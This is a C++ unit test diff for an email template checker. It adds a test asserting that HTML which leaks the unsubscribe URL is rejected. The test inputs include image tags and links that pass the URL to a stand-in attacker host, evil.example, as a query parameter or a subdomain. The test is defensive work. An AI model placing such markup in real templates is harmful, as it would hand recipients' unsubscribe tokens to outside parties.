@@ -268,6 +268,21 @@ TEST(TemplateTextTest, EndsCommentsAsBrowsersDo) {
   }
 }
 
+// Any other address would learn of it when the mail is opened.
+TEST(TemplateTextTest, GivesTheUnsubscribeUrlToNobodyElse) {
+  const auto fault = [](std::string_view text) { return FaultOf(text, TemplateForm::kHtml); };
+  for (const char* text : {
+           "<img src=\"https://evil.example/p?u={{unsubscribe_url}}\">",
+           "<img src=\"{{unsubscribe_url}}\">",
+           "<a href=\"https://evil.example/?u={{unsubscribe_url}}\">x</a>",
+           "<a href=\"{{unsubscribe_url}}.evil.example\">x</a>",
+           "<a href=\"{{unsubscribe_url}}{{unsubscribe_url}}\">x</a>",
+           "<p title=\"{{unsubscribe_url}}\">x</p>",
+       }) {
+    EXPECT_NE(fault(text), "") << text;
+  }
+}
+
 class Random {
  public:
   explicit Random(uint64_t seed) : engine_(seed) {}
